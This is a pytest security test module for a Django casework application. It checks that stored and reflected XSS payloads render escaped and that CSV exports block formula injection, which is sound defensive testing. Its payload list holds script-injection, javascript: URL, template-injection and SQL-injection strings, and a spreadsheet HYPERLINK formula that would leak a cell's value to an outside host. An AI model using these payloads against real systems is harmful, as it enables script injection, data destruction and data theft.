"""Stored XSS (issue 5, QUALITY_BARS.md "XSS"): a payload corpus is stored
through the services in every free-text field the world reaches — case title,
document titles, descriptions, bodies and sender, file names and contents,
marking note, meeting place, proposal, agenda item, motion, vote, decision,
statement introduction, clauses and text, minutes correction, notice, referral
question, extension reason, officer report sections, people's and users'
names — and every page that shows them, the printable pages and the exports are
fetched by every role the URL matrix lets read them. No payload may come back
as markup.
"""

import csv
import io
import json
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from casework.directory import services as directory
from casework.directory.models import Organisation, Party, StaffRole
from casework.meetings.services import notices as notice_services
from casework.registry import services as registry
from casework.registry.models import Register
from tests.security.conftest import (
    ANONYMOUS,
    SAMPLED_ROLES,
    build_world,
    clients_for,
    report,
    user,
)
from tests.security.test_url_matrix import EXPECTED, KNOWN_BUGS, OK

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% now 'Y' %}",
    "'; DROP TABLE registry_case; --",
    '<a href="javascript:alert(1)">x</a>',
    "' onmouseover='alert(1)",
    "<iframe src=//evil.invalid>",
]
# What must never come back in HTML: the payloads' markup, unescaped.
RAW = [
    "<script>alert(1)</script>",
    "<img src=x onerror",
    "<svg onload",
    "<iframe src=//evil",
    '<a href="javascript:',
    "' onmouseover='alert(1)",
]
JAVASCRIPT_URL = re.compile(
    r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE
)
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"Klicka")'


def payload(label: str, limit: int = 300) -> str:
    """``label`` and as many payloads as fit in ``limit`` characters."""
    text = label
    for item in PAYLOADS:
        if len(text) + 1 + len(item) <= limit:
            text += " " + item
    return text


@pytest.fixture(scope="module")
def xss(world, django_db_blocker):
    """A second world on top of the demo with every text a payload, in a
    savepoint rolled back after the module."""
    with django_db_blocker.unblock(), transaction.atomic():
        # The package world's notice board outage is not over, and while it
        # lasts no appeal window ends (R29): the second world's finished
        # meeting needs the board up again.
        notice_services.end_outage(
            outage=world.outage,
            ended_at=timezone.now(),
            actor=world.users["sekreterare.trn"],
            reason="The board is up again before the second world",
        )
        system = user("system")
        # a member of trafiknämnden and a case officer whose names are payloads
        member = directory.create_person(
            first_name=payload("Xena", 100),
            last_name=payload("Xsson", 100),
            title=payload("Ledamot", 100),
            actor=system,
            reason="xss",
        )
        directory.appoint(
            person=member,
            organisation=Organisation.objects.get(code="trn"),
            role="member",
            party=Party.objects.get(code="MP"),
            valid_from=timezone.localdate().replace(year=2023, month=1, day=1),
            actor=system,
            reason="xss",
        )
        officer = directory.create_user(
            username="xss.handlaggare",
            first_name=payload("Xavier", 150),
            last_name=payload("Xberg", 150),
            email="xss@example.invalid",
            password=None,
            actor=system,
            reason="xss",
        )
        directory.grant_staff_role(
            user=officer,
            role=StaffRole.Role.CASE_OFFICER,
            organisation=Organisation.objects.get(code="tk"),
            actor=system,
            reason="xss",
        )
        w = build_world(text=payload)
        registry.add_attachment(
            document=w.t_draft,
            upload=SimpleUploadedFile(
                payload("fil", 120).replace("/", "_") + ".txt", b"ren text"
            ),
            actor=w.users["karin.dhakal"],
            reason="xss",
        )
        w.formula_case = registry.register_case(
            register=Register.objects.get(code="tk"),
            title="Ärende med formel",
            case_officer=officer,
            actor=w.staff.tk_registrar,
            reason="xss",
        )
        # the history shows changes: the new titles, each as a cell of its own
        # (the exports list what changed; a record's first version shows none)
        registry.update_case(
            case=w.formula_case,
            title=payload("Ny titel"),
            actor=w.staff.tk_registrar,
            reason=payload("Skäl", 100),
        )
        registry.update_case(
            case=w.formula_case,
            title=FORMULA,
            actor=w.staff.tk_registrar,
            reason="=1+1",
        )
        yield w
        transaction.set_rollback(True)


def problems_in(text: str) -> list[str]:
    found = [raw for raw in RAW if raw in text]
    found += [m.group(0) for m in JAVASCRIPT_URL.finditer(text)]
    return found


def fetch(client, url, method="GET", data=None):
    with transaction.atomic():
        get = method == "GET"
        response = client.get(url) if get else client.post(url, data or {})
        transaction.set_rollback(True)
    body = b"".join(response) if response.streaming else response.content
    return response, body.decode(errors="replace")


def _known_bug(key, variant, role) -> bool:
    return any(bug.affects(key, variant, role, "GET") for bug in KNOWN_BUGS.values())


def readable_pages(w):
    """(url, roles that the URL matrix lets read it) for every GET page, but
    the cells of known bugs (test_url_matrix.KNOWN_BUGS)."""
    for key, variants in EXPECTED.items():
        if key.startswith("admin"):
            continue
        for variant, entry in variants.items():
            roles = [
                r
                for r in SAMPLED_ROLES
                if entry.get[r] == OK and not _known_bug(key, variant, r)
            ]
            if roles:
                yield f"{key} [{variant}]", entry.url(w), roles


def test_stored_payloads_render_escaped_on_every_page(xss):
    clients = clients_for(xss)
    checked, escaped, literal_template, bad = 0, 0, 0, []
    for label, url, roles in readable_pages(xss):
        for role in roles:
            response, text = fetch(clients[role], url)
            if response.status_code != 200:
                continue
            if "html" not in response.get("Content-Type", ""):
                continue
            checked += 1
            escaped += ESCAPED_SCRIPT in text
            literal_template += "{{ 7*7 }}" in text
            bad += [f"{label} as {role}: {p}" for p in problems_in(text)]
    report(
        f"Stored XSS: {checked} pages checked (every readable page × every "
        f"role that may read it), {escaped} showing the payload escaped, "
        f"{len(bad)} unescaped"
    )
    for problem in bad:
        print(f"  UNESCAPED {problem}")
    assert escaped > 100  # the payloads did reach the pages
    assert literal_template > 50  # "{{ 7*7 }}" is shown, never evaluated
    assert not bad


def test_payloads_sent_in_requests_are_not_reflected_as_markup(xss):
    clients = clients_for(xss)
    p = "".join(PAYLOADS)
    karin, registrar, mp = (
        clients["karin.dhakal"],
        clients["registrator"],
        clients["partisekreterare.mp"],
    )
    mp_draft = xss.statements["a", "MP"]
    requests = [
        (clients[ANONYMOUS], "GET", reverse("login") + "?next=" + p, None),
        (karin, "GET", reverse("registry:case_list") + "?q=" + p, None),
        (karin, "GET", reverse("registry:case_list") + "?register=" + p, None),
        (karin, "GET", reverse("meetings:meeting_list") + "?organisation=" + p, None),
        (
            clients["revisor"],
            "GET",
            reverse("audit:history") + f"?record={p}&since={p}&user={p}",
            None,
        ),
        (
            clients["revisor"],
            "GET",
            reverse("audit:history_export", args=["csv"]) + f"?record={p}",
            None,
        ),
        (
            registrar,
            "POST",
            reverse("registry:case_create"),
            {"register": p, "title": p, "classification": p, "registered_on": p},
        ),
        (
            karin,
            "POST",
            reverse("registry:document_create", args=[xss.t_case.pk]),
            {
                "direction": p,
                "title": p,
                "public_description": p,
                "protected_description": p,
                "counterpart": p,
                "body": p,
                "dated": p,
            },
        ),
        (
            karin,
            "POST",
            reverse("registry:document_revise", args=[xss.t_draft.pk]),
            {"title": p[:600] * 2, "body": p, "reason": ""},
        ),
        (
            mp,
            "POST",
            reverse("meetings:statement_write", args=[mp_draft.pk]),
            {"introduction": p, "clauses": p, "text": p, "refers_to": p},
        ),
        (
            clients["sekreterare.trn"],
            "POST",
            reverse("meetings:item_create", args=[xss.m_live.pk]),
            {"title": p * 3, "clauses": p, "introduction": p * 2, "case": p},
        ),
        (
            clients["sekreterare.trn"],
            "POST",
            reverse("meetings:notice_create", args=[xss.m_done.pk]),
            {"posted_on": p, "minutes_kept_at": p * 2},
        ),
        (
            karin,
            "POST",
            reverse("tasks:task", args=[xss.t_report_task.pk]),
            {"title": p * 3, "clauses": p, "summary": p, "meeting_date": p},
        ),
    ]
    bad = []
    for client, method, url, data in requests:
        response, text = fetch(client, url, method, data)
        assert response.status_code < 500, (url, response.status_code)
        bad += [f"{method} {url[:60]}: {x}" for x in problems_in(text)]
        location = response.get("Location", "")
        assert not location.lower().startswith("javascript"), (url, location)
    report(f"Reflected input: {len(requests)} requests, {len(bad)} unescaped")
    for problem in bad:
        print(f"  UNESCAPED {problem}")
    assert not bad


def test_the_exports_and_files_are_never_served_as_html(xss):
    """The auditor's CSV and JSON exports and the attachments carry the
    payloads as data: never with an HTML content type, always as a download
    that the browser may not sniff."""
    client = clients_for(xss)["revisor"]
    karin = clients_for(xss)["karin.dhakal"]
    responses = []
    for record in ("case", "document", "statement", "decision", "minutes"):
        for fmt in ("csv", "json"):
            url = reverse("audit:history_export", args=[fmt]) + f"?record={record}"
            responses.append((url, *fetch(client, url)))
    for attachment in (xss.t_draft_file, xss.t_conf_file):
        url = reverse("registry:attachment_download", args=[attachment.pk])
        responses.append((url, *fetch(karin, url)))
    carrying = set()
    for url, response, text in responses:
        assert response.status_code == 200, url
        kind = response["Content-Type"]
        assert "html" not in kind, (url, kind)
        assert response["X-Content-Type-Options"] == "nosniff", url
        assert response["Content-Disposition"].startswith("attachment"), url
        if url.endswith("json") or "json?" in url:
            json.loads(text)
        if "<script>alert(1)</script>" in text:
            carrying.add(url)
    report(
        f"Exports and files: {len(responses)} checked, {len(carrying)} carry "
        "payloads, 0 served as HTML"
    )
    # the case and decision histories show changed payload texts, the files
    # their payload names; a party's drafts stay out of the statements' history
    # (rules.md (d), V1), so its export need not carry them
    for record in ("case", "decision"):
        for fmt in ("csv", "json"):
            url = reverse("audit:history_export", args=[fmt]) + f"?record={record}"
            assert url in carrying, url
    for attachment in (xss.t_draft_file, xss.t_conf_file):
        url = reverse("registry:attachment_download", args=[attachment.pk])
        assert url in carrying, url


def test_the_csv_export_does_not_start_cells_with_a_formula(xss):
    client = clients_for(xss)["revisor"]
    url = reverse("audit:history_export", args=["csv"]) + "?record=case"
    _response, text = fetch(client, url)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    titles = [cell for cell in cells if "HYPERLINK" in cell]
    assert titles
    formulas = [c for c in titles if c[:1] in ("=", "+", "-", "@")]
    report(f"CSV export: {len(titles)} cells of the title, {len(formulas)} formulas")
    assert not formulas
